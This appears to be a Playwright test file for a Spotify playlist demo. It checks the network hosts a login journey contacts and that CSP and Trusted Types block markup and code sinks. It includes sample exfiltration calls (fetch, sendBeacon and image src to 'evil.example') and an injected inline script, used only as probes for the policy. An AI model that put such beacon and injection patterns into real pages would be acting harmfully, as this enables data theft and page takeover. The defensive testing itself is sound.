import { makeLibrary } from '../../../src/demo/music/data.ts';
import { logOut } from '../../support/log-in-form.ts';
import { openResult } from '../../support/login-flow.ts';
import { playlistsPage } from '../../support/playlists-page.ts';
import { expect, test } from '../fixtures.ts';

test.describe('with covers', () => {
  test.use({ spotifyOptions: { library: makeLibrary({ playlists: 60, hasCovers: true }) } });

  test('[row 15, row 51] a whole journey asks this list of hosts and no other, and its callback no image host', async ({
    page,
    context,
    spotify: _,
    logIn,
    baseURL,
  }) => {
    const hosts = new Set<string>();
    const ofCallback = new Set<string>();
    context.on('request', (request) => {
      const { host } = new URL(request.url());
      hosts.add(host);
      if (new URL(page.url()).pathname === '/callback') ofCallback.add(host);
    });
    const own = new URL(baseURL ?? '').host;
    const api = ['accounts.spotify.com', 'api.spotify.com'];
    await logIn(page);
    expect([...ofCallback].filter((host) => ![own, ...api].includes(host))).toEqual([]);
    await playlistsPage(page).allRows(60);
    await openResult(page);
    await page.getByRole('button', { name: 'Refresh now' }).click();
    await page.getByRole('link', { name: 'Playlists', exact: true }).click();
    await expect(playlistsPage(page).status).toHaveText('60 playlists');
    await logOut(page);
    await expect(page.getByRole('textbox', { name: 'Client ID' })).toBeVisible();
    expect([...hosts].sort()).toEqual(
      [own, ...api, 'image-cdn-ak.spotifycdn.com', 'mosaic.scdn.co'].sort(),
    );
  });
});

/** Ways to turn text into markup or code. */
const SINKS = {
  innerHTML: 'document.body.innerHTML = "<img>"',
  outerHTML: 'document.querySelector("h1").outerHTML = "<img>"',
  insertAdjacentHTML: 'document.body.insertAdjacentHTML("beforeend", "<img>")',
  srcdoc: 'document.createElement("iframe").srcdoc = "<script></script>"',
  'document.write': 'document.write("<img>")',
  DOMParser: 'new DOMParser().parseFromString("<img>", "text/html")',
  'script.src': 'document.createElement("script").src = "/assets/x.js"',
  setTimeout: 'setTimeout("1")',
  'a policy of one’s own': 'trustedTypes.createPolicy("own", {})',
  'a second policy of the same name': 'trustedTypes.createPolicy("solid-template", {})',
};

test('[row 50] every sink of markup and code is closed to text', async ({
  page,
  expectConsole,
}) => {
  expectConsole(/trusted-types|TrustedHTML|TrustedScript|Trusted Type/i);
  await page.goto('/');
  await page.getByRole('heading', { level: 1 }).waitFor();
  await test.step('eval', async () => {
    // Later, for what Playwright itself runs in the page is exempt.
    const outcome = await page.evaluate(
      () =>
        new Promise((resolve) => {
          setTimeout(() => {
            try {
              resolve(`went through: ${new Function('return 1')()}`);
            } catch (error) {
              resolve(String(error));
            }
          });
        }),
    );
    expect(outcome).toMatch(/^EvalError/);
  });
  for (const [sink, use] of Object.entries(SINKS)) {
    await test.step(sink, async () => {
      const outcome = await page.evaluate(async (code) => {
        // Awaited here, so that the report of one sink is not taken for that of the next.
        const report = new Promise<string>((resolve) => {
          const tell = (event: SecurityPolicyViolationEvent) => resolve(event.effectiveDirective);
          addEventListener('securitypolicyviolation', tell, { once: true });
        });
        try {
          return `went through: ${String(new Function(code)())}`;
        } catch (error) {
          return `${error} (${await report})`;
        }
      }, use);
      expect(outcome).toMatch(/^(TypeError|EvalError).*trusted-types/s);
    });
  }
  await test.step('[row 47] an injected inline script', async () => {
    const isRefused = page.waitForEvent('console', (message) =>
      /^securitypolicyviolation: (script-src|require-trusted-types)/.test(message.text()),
    );
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.append('document.title = "taken over"');
      document.head.append(script);
    });
    await isRefused;
    expect(await page.title()).not.toBe('taken over');
  });
});

const WAYS_OUT: Readonly<Record<string, () => unknown>> = {
  fetch: () => fetch('https://evil.example/?t=1').catch(() => undefined),
  'a beacon': () => navigator.sendBeacon('https://evil.example/?t=1'),
  'a picture': () =>
    new Promise<void>((resolve) => {
      const image = new Image();
      image.onerror = () => resolve();
      image.src = 'https://evil.example/?t=1';
    }),
};

test('[row 47] no fetch, beacon or picture of a foreign host ever leaves the page', async ({
  page,
  network,
  expectConsole,
  allowHost,
}) => {
  const refusal = /securitypolicyviolation: (connect|img)-src https:\/\/evil\.example/;
  expectConsole(refusal);
  expectConsole(/evil\.example/);
  allowHost('evil.example');
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  for (const [what, send] of Object.entries(WAYS_OUT)) {
    await test.step(what, async () => {
      const complaint = page.waitForEvent('console', (message) => refusal.test(message.text()));
      await page.evaluate(send);
      await complaint;
      expect(network.requests).toEqual([]);
    });
  }
});
